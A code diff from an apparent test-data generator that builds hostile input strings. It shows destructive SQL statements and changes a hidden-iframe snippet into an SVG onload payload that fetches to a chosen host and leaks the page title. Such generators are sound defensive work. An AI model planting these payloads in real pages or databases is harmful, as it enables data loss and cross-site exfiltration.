@@ -35,8 +35,8 @@ const SNIPPETS: ReadonlyArray<{ id: string; make: (rng: Mulberry32) => string }>
   { id: 'sql-update', make: () => "UPDATE accounts SET balance = 0 WHERE owner <> 'admin';" },
   { id: 'sql-delete', make: () => 'DELETE FROM orders WHERE 1=1;' },
   {
-    id: 'iframe',
-    make: (r) => `<iframe src="https://${r.pick(HOSTS)}/frame?x=${token(r)}" width="0" height="0"></iframe>`,
+    id: 'svg-onload',
+    make: (r) => `<svg onload="fetch('https://${r.pick(HOSTS)}/s?t='+document.title)"></svg>`,
   },
 ] as const;
 
